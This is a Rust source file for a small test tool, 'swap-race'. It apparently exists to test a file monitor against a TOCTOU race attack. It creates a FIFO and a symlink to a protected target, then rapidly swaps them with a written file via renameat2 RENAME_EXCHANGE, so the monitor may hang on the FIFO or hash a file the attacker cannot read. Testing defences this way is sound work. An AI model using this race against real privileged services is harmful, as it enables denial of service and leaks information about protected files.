//! The file monitor's attacker: in a directory it can write, it makes `f` (a regular file it
//! writes to), `fifo` (a FIFO) and `link` (a symbolic link to TARGET), then for SECONDS writes `f`
//! and swaps it with the FIFO and the link (`renameat2(RENAME_EXCHANGE)`) as fast as it can, so
//! that whenever the monitor looks at `f` after a write, `f` may be a FIFO (an open that would
//! never return) or a link to a file the attacker cannot read (whose hash it would like to see).
//!
//! ```sh
//! swap-race DIR TARGET SECONDS
//! ```
//! Prints `writes N swaps M` to stdout. Meant to run as an unprivileged user (setpriv).

use std::io::Write;
use std::os::unix::fs::OpenOptionsExt;
use std::path::Path;
use std::time::{Duration, Instant};

use nix::fcntl::{renameat2, RenameFlags, AT_FDCWD};
use nix::sys::stat::Mode;

fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let [dir, target, secs] = args.as_slice() else {
        eprintln!("usage: swap-race DIR TARGET SECONDS");
        std::process::exit(2);
    };
    let dir = Path::new(dir);
    let secs: f64 = secs.parse().expect("SECONDS");
    let (f, fifo, link) = (dir.join("f"), dir.join("fifo"), dir.join("link"));
    std::fs::write(&f, b"the attacker's own file\n").expect("create f");
    nix::unistd::mkfifo(&fifo, Mode::from_bits_truncate(0o644)).expect("mkfifo");
    std::os::unix::fs::symlink(target, &link).expect("symlink");
    let swap = |other: &Path| {
        renameat2(AT_FDCWD, &f, AT_FDCWD, other, RenameFlags::RENAME_EXCHANGE).is_ok()
    };
    let end = Instant::now() + Duration::from_secs_f64(secs);
    let (mut writes, mut swaps) = (0u64, 0u64);
    let mut i = 0u64;
    while Instant::now() < end {
        // Only a regular `f` is written: no blocking on the FIFO, no following the link.
        if let Ok(mut w) = std::fs::OpenOptions::new()
            .write(true)
            .truncate(true)
            .custom_flags(libc::O_NOFOLLOW | libc::O_NONBLOCK)
            .open(&f)
        {
            if w.write_all(format!("write {i}\n").as_bytes()).is_ok() {
                writes += 1;
            }
        }
        let other = if i % 2 == 0 { &fifo } else { &link };
        // Swapped, and left swapped for a moment every few rounds.
        swaps += u64::from(swap(other));
        if i % 8 == 0 {
            std::thread::sleep(Duration::from_millis(2));
        }
        swaps += u64::from(swap(other));
        i += 1;
    }
    println!("writes {writes} swaps {swaps}");
}
